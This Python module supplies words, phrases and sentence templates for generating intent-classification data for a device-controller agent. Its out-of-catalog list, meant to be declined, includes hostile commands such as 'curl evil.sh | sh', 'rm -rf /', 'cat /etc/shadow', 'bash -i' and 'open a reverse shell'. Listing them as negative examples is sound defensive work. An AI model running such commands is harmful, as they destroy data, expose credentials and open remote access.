"""Words and sentence templates for the data generator, per intent.

Verbs and qualifiers are shared by all splits; sentence templates are not: each intent's
templates are dealt to train, validation and test, so the test split measures phrasings the model
did not train on. Slots: {v} verb, {x} the named thing, {s} a state word, {w} a qualifier,
{d} the device, {t} a delay. Every template must produce the same answer for any slot filling.
"""

from __future__ import annotations

from llmos.agent.controller.model import entities

VERBS = {
    "restart": ["restart", "restart", "re-start", "relaunch", "bounce", "cycle", "reload", "kick",
                "reboot", "reset", "refresh", "recycle", "rerun", "restart up"],
    "start": ["start", "start", "launch", "run", "fire up", "spin up", "boot", "bring up",
              "kick off", "activate", "turn on", "get going", "power up", "begin"],
    "stop": ["stop", "stop", "halt", "kill", "shut down", "terminate", "end", "turn off",
             "take down", "deactivate", "pause", "shut off", "quit", "switch off"],
    "net_up": ["bring up", "enable", "activate", "turn on", "switch on", "connect", "start",
               "raise", "reconnect", "restore", "open", "put up", "power up"],
    "net_down": ["bring down", "take down", "disable", "deactivate", "disconnect", "turn off",
                 "switch off", "shut", "cut", "stop", "drop", "kill", "shut down"],
    "led_on": ["turn on", "switch on", "light up", "enable", "light", "power on", "activate",
               "illuminate", "switch"],
    "led_off": ["turn off", "switch off", "disable", "kill", "darken", "extinguish", "power off",
                "shut off", "douse", "put out"],
    "led_blink": ["blink", "flash", "flicker", "pulse", "strobe", "make blink", "set blinking"],
    "mount": ["mount", "mount", "attach", "mount up", "open", "load", "hook up", "make available",
              "access", "connect", "add", "use"],
    "unmount": ["unmount", "umount", "eject", "detach", "safely remove", "disconnect", "release",
                "unplug", "dismount", "remove", "un-mount"],
    "console": ["attach a console to", "open a console on", "serve the console on",
                "start a serial console on", "put a shell on", "give me a console on",
                "spawn a login on", "run the console on", "attach the console on",
                "enable the console on", "start a terminal on", "open a login prompt on"],
    "reboot": ["reboot", "restart", "power cycle", "reset", "re-boot", "bounce", "cycle",
               "reboot", "restart"],
    "power": ["switch to", "set", "use", "go to", "change to", "select", "enable", "activate",
              "put the device in", "apply", "turn on", "go"],
    "foreign": ["delete", "install", "update", "upgrade", "format", "rename", "download",
                "uninstall", "configure", "back up", "encrypt", "wipe", "chmod", "compile",
                "print", "email", "resize", "clone", "rewrite", "patch", "edit", "debug"],
}

STATE_WORDS = {
    "up": ["up", "online", "on", "enabled", "active", "connected"],
    "down": ["down", "offline", "off", "disabled", "inactive", "disconnected"],
    "on": ["on", "lit", "solid", "steady on"],
    "off": ["off", "dark", "unlit", "dimmed out"],
    "blink": ["blink", "blinking", "flashing", "blinky"],
}

READONLY_WORDS = {
    True: ["", "", "", "read-only", "readonly", "ro", "in read only mode", "safely",
           "without write access", "read only"],
    False: ["read-write", "rw", "writable", "with write access", "so I can write to it",
            "in rw mode", "read/write", "writeable", "for writing", "with write permission"],
}

DEVICE_WORDS = ["device", "system", "box", "machine", "appliance", "board", "gateway",
                "computer", "node", "whole thing", "controller"]

THING_WORDS = {
    "block": ["drive", "stick", "disk", "card", "usb stick", "partition", "usb drive",
              "thumb drive", "sd card", "volume", "storage", "flash drive"],
    "tty": ["serial adapter", "serial port", "usb serial", "uart", "cable", "ftdi", "dongle"],
    "net": ["interface", "adapter", "nic", "link", "network card", "port", "dongle"],
}

# (phrase, seconds)
# Delays are built from a number, a unit and a preposition (data.delay), so any amount can occur.
DELAY_UNITS = {1: ["seconds", "secs", "sec", "s", "second"], 60: ["minutes", "mins", "min", "m",
               "minute"], 3600: ["hours", "hrs", "h", "hour"]}
DELAY_WORDS = [("in half an hour", 1800), ("in an hour", 3600), ("in a minute", 60),
               ("in a couple of minutes", 120), ("after a second", 1)]
DELAY_PREPOSITIONS = ["in", "in", "after", "within"]
NUMBER_WORDS = entities.NUMBER_WORDS
NOW_WORDS = ["", "", "now", "immediately", "right away", "right now", "asap", "at once"]

PROFILE_WORDS = {
    "performance": ["performance", "max performance", "full speed", "turbo", "high performance",
                    "fast mode", "maximum power", "full power", "performance mode", "speed",
                    "top speed", "perf"],
    "powersave": ["power saving", "powersave", "battery saver", "eco mode", "low power",
                  "energy saving", "power save", "saving mode", "eco", "minimal power",
                  "battery mode", "low energy"],
    "balanced": ["balanced", "normal", "default", "medium", "balanced mode", "standard",
                 "normal mode", "middle", "auto", "regular"],
}

TEMPLATES = {
    "restart": ["{v} {x}", "{v} the {x} service", "{v} {x} please", "{x} is stuck, {v} it",
                "can you {v} {x}", "{v} service {x}", "{x}: {v}", "please {v} the {x} daemon",
                "{x} {v}", "{v} {x} now", "{x} has crashed, {v} it", "give {x} a restart",
                "time to {v} {x}", "{v} the {x} unit", "{x} needs to be restarted",
                "{v} {x} again", "{x} hangs - {v} it", "could you {v} {x} for me",
                "i need {x} restarted", "{x} is acting up, {v}"],
    "start": ["{v} {x}", "{x} is not running, {v} it", "{v} the {x} service", "get {x} running",
              "{x} should be running", "{x} {v}", "can you {v} {x}", "{v} service {x}",
              "make sure {x} is started", "{v} {x} please", "{x} is down, {v} it",
              "{v} the {x} daemon", "please {v} {x} up", "i want {x} running",
              "{v} {x} now", "{x}: {v}", "could you {v} the {x} unit", "{x} needs to start"],
    "stop": ["{v} {x}", "{x} is misbehaving, {v} it", "{v} the {x} service", "{x} must not run",
             "{x} {v}", "please {v} {x}", "{v} service {x}", "no more {x}, {v} it",
             "{v} the {x} daemon now", "i don't need {x}, {v} it", "{x}: {v}",
             "can you {v} {x}", "{v} {x} for now", "{x} should not be running",
             "make {x} stop", "{v} the {x} unit", "{x} eats cpu, {v} it", "{v} {x} please"],
    "net_up": ["{v} {x}", "{v} interface {x}", "{v} the {x} link", "set {x} {s}", "{x} {s}",
               "put {x} {s}", "{v} networking on {x}", "i need {x} {s}", "make {x} {s}",
               "{x} should be {s}", "{v} {x} please", "can you {v} {x}", "{x}: {s}",
               "{v} the {x} interface", "get {x} {s}", "{x} is {s}? no, {v} it"],
    "net_down": ["{v} {x}", "{v} interface {x}", "{v} the {x} link", "set {x} {s}", "{x} {s}",
                 "put {x} {s}", "{v} networking on {x}", "i need {x} {s}", "make {x} {s}",
                 "{x} should be {s}", "{v} {x} please", "can you {v} {x}", "{x}: {s}",
                 "{v} the {x} interface", "get {x} {s}", "{x} floods the lan, {v} it"],
    "led": ["{v} {x}", "{v} the {x} led", "{v} led {x}", "set {x} to {s}", "{x} {s}",
            "{v} the {x} light", "the {x} led should be {s}", "make {x} {s}",
            "put led {x} in {s} mode", "{v} {x} please", "led {x}: {s}", "can you {v} {x}",
            "{v} the {x} indicator", "i want {x} {s}", "switch {x} {s}", "{x} -> {s}"],
    "mount": ["{v} {x}", "{v} {x} {w}", "{v} the drive {x} {w}", "{w} {v} {x}",
              "{v} {x} as {w}", "{x}: {v} {w}", "can you {v} {x} {w}", "{v} partition {x} {w}",
              "please {v} {x}", "i plugged in {x}, {v} it {w}", "{v} the disk at {x}",
              "make {x} available {w}", "{x} {v} {w}", "{v} storage {x} {w}",
              "{v} the filesystem on {x} {w}", "i need the files on {x}, {v} it {w}"],
    "mount_it": ["{v} it {w}", "{v} the new {k} {w}", "{v} what i just plugged in {w}",
                 "{v} that {k} {w}", "{w} {v} it", "new {k}, {v} it {w}", "{v} this {k}",
                 "please {v} it", "{v} the {k} i inserted {w}", "ok {v} it {w}",
                 "{v} the {k} {w}", "can you {v} it {w}"],
    "unmount": ["{v} {x}", "{v} the drive {x}", "{v} {x} please", "{x}: {v}", "can you {v} {x}",
                "{v} partition {x}", "i want to pull {x}, {v} it", "{v} the disk at {x}",
                "{x} {v}", "{v} storage {x} now", "done with {x}, {v} it",
                "{v} the filesystem on {x}", "get {x} unmounted", "{v} {x} so i can remove it"],
    "unmount_it": ["{v} the mounted {k}", "{v} the {k} that is mounted", "{v} the {k}",
                   "done with the {k}, {v} it", "{v} my {k}", "please {v} the mounted {k}",
                   "i want to remove the {k}, {v} it", "{v} the currently mounted {k}"],
    "mount_unmounted": ["{v} the unmounted {k} {w}", "{v} the other {k} {w}",
                        "{v} the {k} that is not mounted {w}", "{v} the {k} that isn't mounted",
                        "{v} my {k} {w}", "the {k} is not mounted, {v} it {w}"],
    "console": ["{v} {x}", "{v} port {x}", "{v} serial {x}", "{v} {x} please",
                "i connected a cable to {x}, {v} it", "can you {v} {x}", "{x}: {v} it",
                "{v} the port {x} now", "please {v} the tty {x}", "{v} {x} for me",
                "{v} device {x}", "{v} line {x}"],
    "console_it": ["{v} it", "{v} the new {k}", "{v} that {k}", "{v} the {k} i plugged in",
                   "new {k}: {v} it", "please {v} the {k}", "{v} this {k}"],
    "net_it": ["{v} it", "{v} the new {k}", "{v} that {k}", "{v} the {k} i plugged in",
               "new {k}, {v} it", "please {v} the {k}", "{v} this {k}", "make it {s}"],
    "reboot": ["{v}", "{v} the {d}", "{v} {t}", "{v} the {d} {t}", "{t}, {v}", "please {v} {t}",
               "{v} yourself {t}", "can you {v} the {d} {t}", "i need a {v} {t}",
               "{d} {v} {t}", "{v} please", "go for a {v} {t}", "time to {v} the {d}",
               "{v} everything {t}", "schedule a {v} {t}", "do a {v} of the {d} {t}"],
    "power": ["{v} {p}", "switch to {p}", "use the {p} profile", "set power profile to {p}",
              "go {p}", "{p} mode please", "{p}", "i want {p}", "change power to {p}",
              "{v} the {p} profile", "power: {p}", "run in {p}", "{v} {p} mode",
              "make it {p}", "can you {v} {p}", "profile {p}", "set the cpu to {p}",
              "{p} profile now"],
    "status": ["{t} {s}", "show {t} {s}", "show me the {t} {s}", "{s} of the {t}",
               "what's the {t} {s}", "give me the {t} {s}", "{t} {s} please", "check the {t}",
               "how is the {t}", "{t}?", "get {t} {s}", "print the {t} {s}", "tell me the {t} {s}",
               "current {t} {s}", "i want the {t} {s}", "{t} {s} now", "report on the {t}",
               "what is the {t} doing", "{s}: {t}", "display {t} {s}"],
    "cancel": ["{c} {o}", "please {c} {o}", "no, {c} {o}", "actually {c} {o}", "{c} {o}, thanks",
               "ok {c} {o}", "wait, {c} {o}", "just {c} {o}", "{c} {o} for now", "let's {c} {o}",
               "on second thought, {c} {o}", "{c} {o}, i was wrong", "sorry, {c} {o}"],
    "outside": ["{r}", "please {r}", "can you {r}", "i want you to {r}", "{r} for me",
                "could you {r} please", "hey, {r}", "{r} right now", "would you {r}",
                "go ahead and {r}", "i'd like you to {r}", "{r}, thanks", "time to {r}"],
    "foreign": ["{v} {x}", "{v} the {x} service", "please {v} {x}", "can you {v} {x}",
                "{v} {x} now", "{x}: {v}", "i want to {v} {x}", "{v} {x} for me"],
}

# Status questions built from a topic word and a status word ("wifi status", "disk info"):
# the words are shared by all splits, the "status" templates are dealt like the others.
STATUS_TOPIC_WORDS = {
    "system": ["system", "device", "box", "gateway", "overall", "general", "cpu", "memory",
               "uptime", "load"],
    "storage": ["disk", "storage", "drive", "drives", "mount", "filesystem", "space",
                "partition", "sd card", "usb storage"],
    "network": ["network", "wifi", "lan", "ethernet", "ip", "link", "interface", "internet",
                "connectivity", "wlan"],
    "model": ["model", "ai", "llm", "controller", "brain", "inference", "language model"],
    "events": ["event", "events", "log", "history", "udev", "activity", "journal", "hotplug"],
}
STATUS_WORDS = ["status", "info", "report", "state", "overview", "summary", "details", "stats",
                "health", "information"]

STATUS_PHRASES = {
    "system": ["status", "how is the system", "system health", "how are you doing",
               "health check", "system status", "are you ok", "how's everything",
               "give me a report",
               "overall status", "what's your state", "status report", "is everything fine",
               "check the system", "how is the box doing", "report", "sysinfo",
               "show me the status",
               "how's the device", "diagnostics",
               "uptime", "top", "htop", "system info", "health", "status update", "stats",
               "how are things", "everything ok?", "give me an overview", "system overview",
               "what's going on", "status please", "how is it going", "sitrep", "state of the system",
               "are you healthy", "quick health check", "cpu and memory", "load average",
               "free -h", "how busy are you", "summary", "vitals", "device status",
               "how is the gateway", "general status", "run a self check"],
    "storage": ["disk usage", "storage status", "how much space is left", "what's mounted",
                "show disks", "show drives", "list storage", "free space?", "storage report",
                "which drives are attached", "how full is the disk", "df", "show mounts",
                "storage info", "what disks do we have", "check storage", "list the partitions",
                "is the disk full", "show the storage", "status of the drives",
    "lsblk", "du", "disk space", "how much disk is free", "storage usage", "mounts",
    "list mounted filesystems", "what is plugged in storage-wise", "blkid", "show partitions",
    "space left?", "are the drives ok", "filesystem status", "which disks are mounted",
    "free disk", "check the disks", "capacity"],
    "network": ["network status", "am i online", "show interfaces", "ip addresses",
                "connectivity", "how is the network", "network report", "list the nics",
                "is wifi connected", "show network", "what's my ip", "link status",
                "are we connected", "check the network", "network info", "ifconfig",
                "show the links", "is the lan up", "network health", "which interfaces exist",
    "ip a", "ip addr", "ip link", "nmcli", "show the nics", "what interfaces are there",
    "list interfaces", "routes", "show routes", "is ethernet up", "wifi status",
    "do we have internet", "net status", "link state", "connections", "which network am i on",
    "interfaces?", "lan status", "show ip", "network overview"],
    "model": ["which model are you", "model info", "show the model", "what controller is running",
              "model status", "which version of the model", "what are you running on",
              "describe your model", "model report", "what brain do you use", "show model details",
              "which llm is this", "model version", "check the model",
              "are you the rules or the model",
              "controller info", "show the controller", "what model is loaded",
              "info about the model", "model?",
    "what model", "model name", "which ai is this", "what are you", "show the llm",
    "controller status", "model stats", "which weights are loaded", "is the model loaded",
    "ai status", "what runs the decisions", "model card", "what is deciding"],
    "events": ["recent events", "what happened", "show the event log", "last events",
               "what did you see", "event history", "show events", "any events lately",
               "what changed recently", "list recent hardware events", "show the log",
               "what happened today", "events?", "udev history", "what was plugged in",
               "recent activity", "show me what happened", "event report", "latest events",
               "check the events",
               "dmesg", "journal", "log", "logs", "any news", "anything new",
               "what happened lately", "history", "last hour of events", "show udev events",
               "what devices came and went", "recent changes", "new events?",
               "what did i plug in", "events log", "audit log", "tail the log"],
}

OUT_OF_CATALOG = [
    "will it rain today", "tell me a joke", "install docker", "delete /etc", "format /dev/sda",
    "update the firmware", "change the root password", "open port 22", "send an email to bob",
    "who are you", "set the time to noon", "download the latest release", "create a user alice",
    "ping google", "rm -rf /", "shut down the device for good", "power off", "what is 2+2",
    "write a poem", "translate hello to french", "add a cron job", "open a reverse shell",
    "disable the firewall", "show me the root password", "upgrade all packages",
    "how do i cook rice", "give me admin rights", "change the hostname", "set the timezone",
    "encrypt the disk", "wipe everything", "play some music", "take a picture",
    "order a pizza", "what day is it", "mine bitcoin", "turn the volume up",
    "increase the fan speed", "factory reset", "print the config file", "reset my password",
    "install a vpn", "connect to wifi network HomeNet", "scan the network for hosts",
    "copy the logs to a usb stick", "compress the logs", "what is the meaning of life",
    "call the admin", "flash a new image", "open the door", "sing a song",
    "explain quantum physics", "book a meeting", "edit /etc/fstab", "chmod 777 /",
    "run this script", "start a web browser", "delete the logs", "make me a sandwich",
    "hello", "thanks", "hi there", "good morning", "are you alive", "help", "what can you do",
    "who made you", "cat /etc/shadow", "add an ssh key", "create a backup", "set a reminder",
    "lower the screen brightness", "check my email", "how old are you", "list all users",
    "kill all processes", "overclock the cpu", "rename the device", "export the database",
    "who are you exactly", "what is your name", "tell me about yourself", "write a story",
    "compose a song about disks", "draw a cat", "recommend a movie", "what is the date today",
    "how tall is mount everest", "set an alarm", "turn on the lights in the kitchen",
    "lock the front door", "call mom", "buy more storage", "update yourself", "reinstall linux",
    "partition the disk", "resize the partition", "format the usb stick", "change the ip address",
    "set a static ip", "add a firewall rule", "open ssh to the world", "give me a root shell",
    "shutdown", "halt the system", "power down forever", "turn yourself off", "unplug yourself",
    "sudo su", "cat /etc/passwd", "bash -i", "curl evil.sh | sh", "pip install something",
    "apt upgrade", "git pull", "docker run nginx", "add a user", "delete user bob",
    "increase the volume", "mute", "brighter screen", "what's the temperature outside",
    "where am i", "who is the president", "good night", "bye", "thank you", "you're great",
    "yes", "ok", "test", "lol", "asdf", "?", "explain yourself", "why did you do that",
    "turn the volume down", "set the fan to max", "calibrate the sensor", "dim the display",
    "change the wifi password", "update the kernel", "clear the cache", "defragment the disk",
    "print a test page", "rotate the logs", "mirror the drives", "install updates",
    "uninstall the web server", "take a screenshot", "record some audio", "start a timer",
    "send a text message", "back up the config", "restore from backup", "roll back the update",
    "clean up old files", "erase the sd card", "benchmark the cpu", "run a speed test",
    "turn on the heater", "open the garage", "switch to dark mode", "snooze", "zoom in",
    "set the volume to 50", "is it going to snow", "tell me the news", "count to ten",
    "convert 5 miles to km", "what time is it in tokyo", "wipe the usb stick", "delete all files",
    "shut everything off forever", "suspend the machine", "hibernate", "log me out",
    "lock the screen", "switch user", "format the disk", "make a new partition",
]

# Out-of-catalog requests composed from a verb and its object ("book a table for two"). The
# objects are dealt to the splits, so test requests ask for things training never did. No verb
# here is a catalog or cancel verb: "turn on the heater" taught the model that "turn on" may
# mean say, and "turn on networking on eth0" then came out "down".
FOREIGN_REQUESTS = {
    "media": (["play", "stream", "queue up", "shuffle", "listen to"],
              ["some music", "a podcast", "the radio", "my playlist", "a song", "jazz",
               "a movie", "the next episode", "white noise", "an audiobook", "the news",
               "some rock", "a video", "lofi beats"]),
    "booking": (["book", "reserve", "arrange", "plan", "organise"],
                ["a meeting", "a table for two", "a flight to berlin", "a taxi", "a hotel room",
                 "a dentist appointment", "a call with bob", "a haircut", "a team lunch",
                 "a video call", "a trip", "a car service", "a doctor's visit", "a massage"]),
    "shopping": (["order", "buy", "get me", "find me", "deliver"],
                 ["a pizza", "coffee", "new headphones", "groceries", "a gift for my mom",
                  "a cheap laptop", "more toner", "flowers", "sushi", "a new phone",
                  "batteries", "concert tickets", "a train ticket", "cat food"]),
    "timers": (["create", "make", "program", "give me"],
               ["a timer", "an alarm", "a reminder", "a countdown", "a stopwatch",
                "a timer for ten minutes", "an alarm for 7am", "a wake-up call",
                "a pomodoro", "a birthday reminder", "a calendar entry", "a to-do item"]),
    "writing": (["write", "compose", "draft", "make up", "tell me", "recite"],
                ["a poem", "a story", "an essay", "a joke", "a limerick", "a song",
                 "a haiku about spring", "a bedtime story", "a riddle", "a speech",
                 "a cover letter", "a love letter", "a tweet", "a fun fact"]),
    "lookup": (["look up", "search for", "google", "find", "research", "browse for"],
               ["the pollen count", "the capital of peru", "the stock price of acme",
                "the football score", "a recipe for soup", "flights to rome", "the news",
                "the exchange rate", "cheap hotels", "the nearest pharmacy", "bus times",
                "the lottery numbers", "movie times", "the traffic"]),
    "home": (["lock", "unlock", "dim", "close", "brighten", "draw"],
             ["the front door", "the garage door", "the blinds", "the kitchen lights",
              "the back door", "the curtains", "the porch light", "the living room lights",
              "the shutters", "the gate", "the windows", "the skylight", "the bedroom lights",
              "the garden lights"]),
}

CANCEL_PHRASES = ["nothing", "cancel that", "forget it", "no action", "do nothing",
                  "ignore that", "nevermind", "stop, nothing to do", "nothing for now",
                  "all good, no action needed", "skip", "leave it", "never mind that",
                  "cancel", "abort", "scratch that", "don't do anything", "disregard that",
                  "no thanks", "nope", "forget this", "hold off", "not now", "drop it",
                  "i changed my mind", "cancel the request", "never mind, all good",
                  "no, leave it", "belay that", "stand down", "ignore my last request",
                  "no need", "let it be", "do not do that", "undo that request", "stop that",
                  "forget what i said", "nah", "no", "don't bother",
                  "leave it be", "it's fine, leave it", "wait, no", "actually no", "hold on",
                  "no thank you", "nothing needed", "we're good", "all fine, nothing to do",
                  "pass", "not needed anymore", "don't", "stop right there", "no, don't"]

# cancel templates join a verb and what it undoes ("call off the last command")
CANCEL_VERBS = ["cancel", "forget", "ignore", "drop", "scrap", "skip", "undo", "disregard",
                "abort", "call off", "scratch", "never mind", "kill", "revoke", "withdraw",
                "don't do", "stop"]
CANCEL_OBJECTS = ["that", "it", "this", "the request", "my request", "my last command",
                  "what i said", "the last one", "the order", "that command", "the whole thing",
                  "the previous request", "that instruction", "my last message"]

POLITE_BEFORE = ["", "", "", "", "please ", "hey, ", "ok ", "um ", "so ", "could you ",
                 "can you ", "i need you to ", "would you ", "go ahead and ", "kindly ", "yo ",
                 "hi, ", "hello, ", "quick: ", "llmos, ", "now ", "alright, "]
# no "?": a request typed as a question is answered, not carried out
POLITE_AFTER = ["", "", "", "", " please", " thanks", " asap", " now", " for me", "!",
                " thank you", " pls", " quickly", " when you can", ".", " thx", " right now"]

SAY_TEXT = "Sorry, that is outside what I can do."
ABSENT_TEXT = "There is no such service on this device."
CANCEL_REASON = "operator cancelled"
